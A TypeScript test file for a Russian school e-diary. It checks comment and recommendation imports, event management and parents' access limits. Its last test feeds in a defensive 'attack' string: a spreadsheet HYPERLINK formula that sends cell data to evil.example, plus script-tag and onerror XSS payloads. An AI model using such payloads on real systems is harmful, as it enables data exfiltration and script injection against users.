// Teachers' comments and recommendations (Положение 2.10) and school events (Положение 3.6), ADR 067: the marks and
// lessons imports read the comment columns in Russian and write all or nothing; /staff/events adds, changes and
// deletes events through one zod form; the parent's e-diary shows a comment beside its mark and under its lesson and
// an event on its day — for the own child only, and a class's event only to that class's parents.
import iconv from 'iconv-lite'
import { describe, expect, it } from 'vitest'
import { db } from '#app/utils/db.server'
import { applyImport, dryRunImport } from '#app/import/run.server'
import { getDiaryPeriod, getDiaryWeek } from '#app/models/journal/diary.server'
import { action as eventsAction, loader as eventsLoader } from '#app/routes/staff.events'
import { loader as childLoader } from '#app/routes/parent.children.$pupilId'
import { addDays, formatDate } from '#workflows/time'
import { mondayOf } from '#workflows/diary'
import { signIn } from '#tests/helpers/auth'
import { formRequest, getRequest, settle } from '#tests/helpers/http'

const SCHOOL = 'school_8'
const cell = (v: string) => (/[;"\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v)
const csv = (rows: string[][]) => new TextEncoder().encode(rows.map((r) => r.map(cell).join(';')).join('\n'))
const fio = (p: { lastName: string; firstName: string; middleName: string }) => `${p.lastName} ${p.firstName} ${p.middleName}`
const MARKS_HEADER = ['Класс', 'Дата', 'Урок', 'Обучающийся', 'Дата рождения', 'Вид работы', 'Оценка', 'Комментарий']
const LESSONS_HEADER = ['Класс', 'Группа', 'Дата', 'Урок', 'Предмет', 'Тема', 'Комментарий к уроку']
const args = (request: Request, params: Record<string, string> = {}) => ({ request, params, context: {} })

/** The demo parent's child (grades 2–9), a lesson of theirs with a classmate of another family, and that classmate. */
async function lessonWithClassmate() {
  const parent = await db.user.findUniqueOrThrow({ where: { login: 'parent' }, include: { guardian: { include: { links: true } } } })
  const family = parent.guardian!.links.map((l) => l.pupilId)
  const child = await db.pupil.findFirstOrThrow({
    where: { id: { in: family }, leftOn: null, class: { grade: { gte: 2, lte: 9 } } },
    include: { class: true },
  })
  const lesson = await db.lesson.findFirstOrThrow({
    where: { group: { members: { some: { pupilId: child.id } }, wholeClass: true }, marks: { some: {} } },
    orderBy: [{ date: 'desc' }, { period: 'asc' }],
    include: { group: { include: { members: true } } },
  })
  const classmateId = lesson.group.members.map((m) => m.pupilId).find((id) => id !== child.id && !family.includes(id))!
  const classmate = await db.pupil.findUniqueOrThrow({ where: { id: classmateId } })
  return { child, lesson, classmate }
}

const marksFile = (rows: string[][]) => ({
  schoolId: SCHOOL,
  kind: 'marks' as const,
  fileName: 'marks.csv',
  bytes: csv([MARKS_HEADER, ...rows]),
})

describe('comments from the marks import', () => {
  it('a good file: the comment stands beside its mark in the week and period views, and nowhere in another pupil’s diary', async () => {
    const { child, lesson, classmate } = await lessonWithClassmate()
    await db.mark.deleteMany({ where: { lessonId: lesson.id, pupilId: { in: [child.id, classmate.id] } } })
    const date = formatDate(lesson.date)
    const text = 'Хороший ответ у доски, но повторите правило на с. 54.'
    const rows = [
      [
        child.class.name,
        date,
        String(lesson.period),
        fio(child),
        child.birthDate.split('-').reverse().join('.'),
        'Устный ответ',
        '4',
        text,
      ],
      [child.class.name, date, String(lesson.period), fio(classmate), '', 'Устный ответ', '3', 'Комментарий однокласснику'],
    ]
    expect(await dryRunImport(marksFile(rows))).toMatchObject({ ok: true, errors: [], counts: { created: 2, updated: 0 } })
    expect(await db.journalComment.count({ where: { lessonId: lesson.id, markId: { not: null } } })).toBe(0)
    expect(await applyImport(marksFile(rows))).toMatchObject({ ok: true, applied: true, counts: { created: 2 } })

    const mark = await db.mark.findFirstOrThrow({ where: { lessonId: lesson.id, pupilId: child.id }, include: { comment: true } })
    expect(mark.comment).toMatchObject({ text, pupilId: child.id, lessonId: lesson.id, authorId: lesson.teacherId })

    const week = await getDiaryWeek(SCHOOL, child.id, lesson.date, { today: lesson.date })
    const shown = week!.days.flatMap((d) => d.lessons).find((l) => l.id === lesson.id)!
    expect(shown.marks).toContainEqual({
      value: '4',
      workType: 'Устный ответ',
      weight: expect.any(Number),
      comment: { text, author: expect.stringMatching(/\S/), writtenOn: expect.stringMatching(/^\d{4}-\d\d-\d\d$/) },
    })
    // Положение 3.6: the classmate's comment is on the classmate's mark only.
    expect(JSON.stringify(week)).not.toContain('Комментарий однокласснику')

    const period = await getDiaryPeriod(SCHOOL, child.id, 'all', { today: lesson.date })
    const subjects = period!.result.available ? period!.result.subjects : []
    const inPeriod = subjects.flatMap((s) => s.marks).filter((m) => m.date === lesson.date && m.workType === 'Устный ответ')
    expect(inPeriod.map((m) => m.comment?.text)).toContain(text)
    expect(JSON.stringify(period)).not.toContain('Комментарий однокласснику')

    // The same file again changes nothing; a new text changes the comment only (the mark counts as updated).
    expect(await applyImport(marksFile(rows))).toMatchObject({ applied: true, counts: { created: 0, updated: 0, unchanged: 2 } })
    const changed = [[...rows[0].slice(0, 7), 'Исправлено: ответ полный.']]
    expect(await applyImport(marksFile(changed))).toMatchObject({ applied: true, counts: { created: 0, updated: 1, unchanged: 0 } })
    expect(await db.journalComment.findMany({ where: { markId: mark.id }, select: { text: true } })).toEqual([
      { text: 'Исправлено: ответ полный.' },
    ])
    // An empty cell keeps the comment (an old file without the column too).
    const old = [rows[0].slice(0, 7)]
    const oldFile = { ...marksFile([]), bytes: csv([MARKS_HEADER.slice(0, 7), ...old]) }
    expect(await applyImport(oldFile)).toMatchObject({ ok: true, applied: true, counts: { unchanged: 1 } })
    expect(await db.journalComment.count({ where: { markId: mark.id } })).toBe(1)
  })

  it('bad rows: Russian errors with the line, and nothing of the file is written', async () => {
    const { child, lesson, classmate } = await lessonWithClassmate()
    await db.mark.deleteMany({ where: { lessonId: lesson.id, pupilId: { in: [child.id, classmate.id] } } })
    const date = formatDate(lesson.date)
    const before = await Promise.all([db.mark.count(), db.journalComment.count()])
    const rows = [
      [child.class.name, date, String(lesson.period), fio(child), '', 'Устный ответ', '5', 'Молодец!'],
      [child.class.name, date, String(lesson.period), fio(classmate), '', 'Устный ответ', '4', 'я'.repeat(1001)],
      [child.class.name, date, String(lesson.period), fio(classmate), '', 'Работа на уроке', 'н/а', 'Не работал на уроке'],
    ]
    const report = await applyImport(marksFile(rows))
    expect(report.ok).toBe(false)
    expect(report.applied).toBe(false)
    expect(report.errors).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ line: 3, column: 'Комментарий', message: 'Слишком длинное значение: больше 1000 символов.' }),
        expect.objectContaining({ line: 4, column: 'Оценка', message: expect.stringContaining('«н/а» не допускается') }),
      ]),
    )
    expect(await Promise.all([db.mark.count(), db.journalComment.count()])).toEqual(before)
  })
})

describe('comments from the lessons import', () => {
  it('«Комментарий к уроку» reaches every pupil of the lesson; a too long one refuses the whole file', async () => {
    const { child, lesson, classmate } = await lessonWithClassmate()
    const subject = await db.subject.findUniqueOrThrow({ where: { id: lesson.subjectId } })
    await db.journalComment.deleteMany({ where: { lessonId: lesson.id } })
    const file = (rows: string[][]) => ({
      schoolId: SCHOOL,
      kind: 'lessons' as const,
      fileName: 'lessons.csv',
      bytes: csv([LESSONS_HEADER, ...rows]),
    })
    const base = [child.class.name, '', formatDate(lesson.date), String(lesson.period), subject.name, lesson.topic]
    const text = 'К следующему уроку принести линейку и цветные карандаши.'

    const bad = await applyImport(file([[...base, 'x'.repeat(1001)]]))
    expect(bad.errors).toEqual([
      expect.objectContaining({ line: 2, column: 'Комментарий к уроку', message: 'Слишком длинное значение: больше 1000 символов.' }),
    ])
    expect(await db.journalComment.count({ where: { lessonId: lesson.id } })).toBe(0)

    expect(await applyImport(file([[...base, text]]))).toMatchObject({ ok: true, applied: true, counts: { updated: 1 } })
    for (const pupil of [child, classmate]) {
      const week = await getDiaryWeek(SCHOOL, pupil.id, lesson.date, { today: lesson.date })
      const shown = week!.days.flatMap((d) => d.lessons).find((l) => l.id === lesson.id)!
      expect(shown.comments).toContainEqual(expect.objectContaining({ text, personal: false }))
    }
    // A recommendation to one pupil about the lesson is that pupil's only (Положение 3.6).
    await db.journalComment.create({
      data: { lessonId: lesson.id, pupilId: classmate.id, text: 'Рекомендация однокласснику', authorId: lesson.teacherId },
    })
    const own = await getDiaryWeek(SCHOOL, child.id, lesson.date, { today: lesson.date })
    const theirs = await getDiaryWeek(SCHOOL, classmate.id, lesson.date, { today: lesson.date })
    const comments = (w: typeof own) =>
      w!.days
        .flatMap((d) => d.lessons)
        .find((l) => l.id === lesson.id)!
        .comments.map((c) => c.text)
    expect(comments(own)).toEqual([text])
    expect(comments(theirs)).toEqual(expect.arrayContaining([text, 'Рекомендация однокласснику']))
  })
})

describe('school events: /staff/events and the e-diary', () => {
  it('the deputy adds, changes and deletes events; bad input is refused in Russian and changes nothing', async () => {
    const deputy = await signIn('deputy')
    const year = await db.academicYear.findFirstOrThrow({ where: { schoolId: SCHOOL, current: true }, include: { classes: true } })
    const post = (fields: Record<string, string>) => settle(() => eventsAction(args(formRequest('/staff/events', fields, deputy))))
    const before = await db.schoolEvent.count()

    for (const [fields, message] of [
      [{ intent: 'save', date: '', title: 'Собрание' }, 'Укажите дату мероприятия'],
      [{ intent: 'save', date: '31.02.2027', title: 'Собрание' }, 'Неверная дата «31.02.2027»: ожидается ДД.ММ.ГГГГ, например 25.12.2026'],
      [{ intent: 'save', date: '10.12.2026', title: '   ' }, 'Укажите название мероприятия'],
      [{ intent: 'save', date: '10.12.2026', title: 'Собрание', time: '25:00' }, 'Время — ЧЧ:ММ, например 09:00, или пусто'],
      [{ intent: 'save', date: '10.12.2026', title: 'x'.repeat(201) }, 'Название — не длиннее 200 символов'],
      [{ intent: 'save', date: '01.07.2030', title: 'Собрание' }, `Дата должна быть в пределах учебного года ${year.name}`],
      [{ intent: 'save', date: '10.12.2026', title: 'Собрание', classes: 'cls_unknown' }, 'Неизвестный класс: обновите страницу'],
      [{ intent: 'drop', id: 'x' }, 'Неизвестное действие'],
    ] as const) {
      const res = await post(fields)
      expect(res.status, message).toBe(400)
      expect((await res.json()).message).toBe(message)
    }
    expect(await db.schoolEvent.count()).toBe(before)

    const day = year.startsOn.slice(0, 4) + '-12-10'
    const created = await post({ intent: 'save', date: formatDate(day), time: '18:00', title: 'Концерт хора', place: 'актовый зал' })
    expect(created.status).toBe(200)
    expect((await created.json()).message).toBe('Мероприятие «Концерт хора» добавлено')
    const event = await db.schoolEvent.findFirstOrThrow({ where: { title: 'Концерт хора' }, include: { classes: true } })
    expect(event).toMatchObject({ date: day, time: '18:00', place: 'актовый зал', schoolId: SCHOOL })
    expect(event.classes).toEqual([])

    const cls = year.classes.find((c) => c.name === '5А')!
    const edited = await post({
      intent: 'save',
      id: event.id,
      date: formatDate(day),
      time: '',
      title: 'Концерт хора 5А',
      place: '',
      classes: cls.id,
    })
    expect(edited.status).toBe(200)
    expect(await db.schoolEvent.findUniqueOrThrow({ where: { id: event.id }, include: { classes: true } })).toMatchObject({
      title: 'Концерт хора 5А',
      time: '',
      classes: [{ classId: cls.id }],
    })
    const page = await (await settle(() => eventsLoader(args(getRequest('/staff/events', deputy))))).json()
    expect(page.events).toContainEqual(expect.objectContaining({ id: event.id, audience: '5А класс' }))
    expect(await db.auditEvent.count({ where: { entity: 'SchoolEvent', entityId: event.id } })).toBe(2)

    const deleted = await post({ intent: 'delete', id: event.id })
    expect((await deleted.json()).message).toBe('Мероприятие «Концерт хора 5А» удалено')
    expect(await db.schoolEvent.count({ where: { id: event.id } })).toBe(0)

    // A parent or a subject teacher has no such screen.
    const parent = await signIn('parent')
    expect((await settle(() => eventsLoader(args(getRequest('/staff/events', parent))))).status).toBe(403)
    expect((await settle(() => eventsAction(args(formRequest('/staff/events', { intent: 'delete', id: 'x' }, parent))))).status).toBe(403)
  })

  it(
    'a class’s event reaches only the parents of that class; a ' + 'whole-school one every parent; another family’s child stays 404',
    async () => {
      const load = (login: string) =>
        db.user.findUniqueOrThrow({
          where: { login },
          include: { guardian: { include: { links: { include: { pupil: { include: { class: true } } } } } } },
        })
      const [p1, p2] = await Promise.all([load('parent'), load('parent2')])
      const other = p2.guardian!.links.map((l) => l.pupil).find((p) => p.leftOn === null)!
      const own = p1.guardian!.links.map((l) => l.pupil).find((p) => p.classId !== other.classId && p.leftOn === null)!
      expect(own, 'parent has a child in another class than parent2’s').toBeTruthy()
      const year = await db.academicYear.findFirstOrThrow({ where: { schoolId: SCHOOL, current: true } })
      const day = year.startsOn.slice(0, 4) + '-12-17'
      const classEvent = await db.schoolEvent.create({
        data: { schoolId: SCHOOL, date: day, title: `Экскурсия ${own.class.name}`, classes: { create: [{ classId: own.classId }] } },
      })
      const schoolEvent = await db.schoolEvent.create({
        data: { schoolId: SCHOOL, date: day, time: '12:00', title: 'Общешкольная линейка' },
      })

      const weekOf = async (login: string, pupilId: string) => {
        const res = await settle(() => childLoader(args(getRequest(`/parent/children/${pupilId}?week=${day}`, login), { pupilId })))
        return res
      }
      const [c1, c2] = await Promise.all([signIn('parent'), signIn('parent2')])
      const ownWeek = await (await weekOf(c1, own.id)).json()
      const ownDay = ownWeek.week.days.find((d: { date: string }) => d.date === day)
      expect(ownDay.events.map((e: { id: string }) => e.id).sort()).toEqual([classEvent.id, schoolEvent.id].sort())
      const otherWeek = await (await weekOf(c2, other.id)).json()
      const otherDay = otherWeek.week.days.find((d: { date: string }) => d.date === day)
      expect(otherDay.events.map((e: { id: string }) => e.id)).toEqual([schoolEvent.id])
      // Положение 3.6: another family's child is not found — nothing of its diary (comments, events) is shown.
      expect((await weekOf(c2, own.id)).status).toBe(404)
      expect((await weekOf(c1, other.id)).status).toBe(404)
    },
  )

  it('a pupil who has left sees no event after the leaving day, of the class or of the whole school', async () => {
    const parent = await db.user.findUniqueOrThrow({ where: { login: 'parent' }, include: { guardian: { include: { links: true } } } })
    const child = await db.pupil.findFirstOrThrow({ where: { id: { in: parent.guardian!.links.map((l) => l.pupilId) }, leftOn: null } })
    const year = await db.academicYear.findFirstOrThrow({ where: { schoolId: SCHOOL, current: true } })
    // A Monday in the year, the pupil leaving on the Tuesday; events on the Tuesday (still theirs) and the Thursday.
    const monday = mondayOf(year.startsOn.slice(0, 4) + '-12-02')
    const [tuesday, thursday] = [addDays(monday, 1), addDays(monday, 3)]
    await db.schoolEvent.createMany({
      data: [
        { schoolId: SCHOOL, date: tuesday, title: 'Родительское собрание (до выбытия)' },
        { schoolId: SCHOOL, date: thursday, title: 'Общешкольный концерт (после выбытия)' },
      ],
    })
    const classEvent = await db.schoolEvent.create({
      data: {
        schoolId: SCHOOL,
        date: thursday,
        title: 'Экскурсия класса (после выбытия)',
        classes: { create: [{ classId: child.classId }] },
      },
    })
    const titles = async () =>
      (await getDiaryWeek(SCHOOL, child.id, monday, { today: monday }))!.days.flatMap((d) => d.events.map((e) => e.title)).sort()
    expect(await titles()).toEqual(
      expect.arrayContaining([
        'Общешкольный концерт (после выбытия)',
        'Родительское собрание (до выбытия)',
        'Экскурсия класса (после выбытия)',
      ]),
    )
    await db.pupil.update({ where: { id: child.id }, data: { leftOn: tuesday } })
    try {
      const after = await titles()
      expect(after).toContain('Родительское собрание (до выбытия)')
      expect(after).not.toContain('Общешкольный концерт (после выбытия)')
      expect(after).not.toContain('Экскурсия класса (после выбытия)')
    } finally {
      await db.pupil.update({ where: { id: child.id }, data: { leftOn: null } })
      await db.schoolEvent.delete({ where: { id: classEvent.id } })
    }
  })
})

describe('recommendations to one pupil (the «recommendations» kind)', () => {
  it('a good file reaches the pupil’s own diary only; bad rows are refused in Russian and nothing is written', async () => {
    const { child, lesson, classmate } = await lessonWithClassmate()
    await db.journalComment.deleteMany({ where: { lessonId: lesson.id } })
    const header = ['Класс', 'Дата', 'Урок', 'Обучающийся', 'Рекомендация']
    const file = (rows: string[][]) => ({
      schoolId: SCHOOL,
      kind: 'recommendations' as const,
      fileName: 'rec.csv',
      bytes: csv([header, ...rows]),
    })
    const at = [child.class.name, formatDate(lesson.date), String(lesson.period)]
    const text = 'Прочитайте параграф ещё раз и составьте план ответа.'

    const bad = await applyImport(
      file([
        [...at, fio(child), text],
        [...at, fio(classmate), ''],
        [...at, fio(child), 'Ещё одна'],
        [child.class.name, formatDate(lesson.date), '12', fio(child), text],
      ]),
    )
    expect(bad.applied).toBe(false)
    expect(bad.errors).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ line: 3, column: 'Рекомендация', message: 'Не заполнено обязательное поле.' }),
        expect.objectContaining({
          line: 4,
          column: 'Рекомендация',
          message: 'Рекомендация этому обучающемуся к этому уроку уже указана в строке 2.',
        }),
        expect.objectContaining({ line: 5, message: expect.stringMatching(/^Урок не найден: .*Сначала загрузите уроки\.$/) }),
      ]),
    )
    expect(await db.journalComment.count({ where: { lessonId: lesson.id } })).toBe(0)

    expect(await applyImport(file([[...at, fio(child), text]]))).toMatchObject({ applied: true, counts: { created: 1, updated: 0 } })
    expect(await applyImport(file([[...at, fio(child), text]]))).toMatchObject({ applied: true, counts: { created: 0, unchanged: 1 } })
    const own = await getDiaryWeek(SCHOOL, child.id, lesson.date, { today: lesson.date })
    const theirs = await getDiaryWeek(SCHOOL, classmate.id, lesson.date, { today: lesson.date })
    const comments = (w: typeof own) => w!.days.flatMap((d) => d.lessons).find((l) => l.id === lesson.id)!.comments
    expect(comments(own)).toEqual([expect.objectContaining({ text, personal: true, author: expect.stringMatching(/\S/) })])
    expect(comments(theirs)).toEqual([])
  })

  it(
    'a file shaped like the real world: CP1251, a formula, markup and Word’s ' +
      'line break stay plain text; another class’s pupil is refused',
    async () => {
      const { child, lesson, classmate } = await lessonWithClassmate()
      await db.journalComment.deleteMany({ where: { lessonId: lesson.id } })
      const elsewhere = await db.pupil.findFirstOrThrow({ where: { schoolId: SCHOOL, leftOn: null, classId: { not: child.classId } } })
      const at = [child.class.name, formatDate(lesson.date), String(lesson.period)]
      const attack =
        '=HYPERLINK("http://evil.example/?q="&A1;"Подробнее") <script>alert(1)</script><img src=x onerror=alert(2)>\u000bвторая строка'
      const header = ['Класс', 'Дата', 'Урок', 'Обучающийся', 'Рекомендация']
      const rows = (list: string[][]) =>
        iconv.encode([header, ...list].map((r) => r.map((v) => `"${v.replace(/"/g, '""')}"`).join(';')).join('\r\n') + '\r\n', 'win1251')
      const file = (bytes: Uint8Array) => ({ schoolId: SCHOOL, kind: 'recommendations' as const, fileName: 'rec.csv', bytes })

      // A pupil of another class named on this class's lesson: refused with the reason, nothing written.
      const refused = await applyImport(file(rows([[...at, fio(elsewhere), 'Повторить таблицу умножения.']])))
      expect(refused.applied).toBe(false)
      expect(refused.errors).toEqual([
        expect.objectContaining({ line: 2, message: expect.stringMatching(/не входит в группу этого урока/) }),
      ])
      expect(await db.journalComment.count({ where: { lessonId: lesson.id } })).toBe(0)

      const applied = await applyImport(file(rows([[...at, fio(child), attack]])))
      expect(applied).toMatchObject({ applied: true, counts: { created: 1 } })
      // The formula is named as a warning; the text is stored as it reads, the line break a space, no control character.
      expect(applied.warnings.length).toBeGreaterThan(0)
      const stored = await db.journalComment.findFirstOrThrow({ where: { lessonId: lesson.id } })
      expect(stored.text).toBe(attack.replace('\u000b', ' '))
      expect(stored.pupilId).toBe(child.id)
      const theirs = await getDiaryWeek(SCHOOL, classmate.id, lesson.date, { today: lesson.date })
      expect(theirs!.days.flatMap((d) => d.lessons).find((l) => l.id === lesson.id)!.comments).toEqual([])
      const own = await getDiaryWeek(SCHOOL, child.id, lesson.date, { today: lesson.date })
      expect(own!.days.flatMap((d) => d.lessons).find((l) => l.id === lesson.id)!.comments).toEqual([
        expect.objectContaining({ text: stored.text, personal: true }),
      ])
    },
  )
})
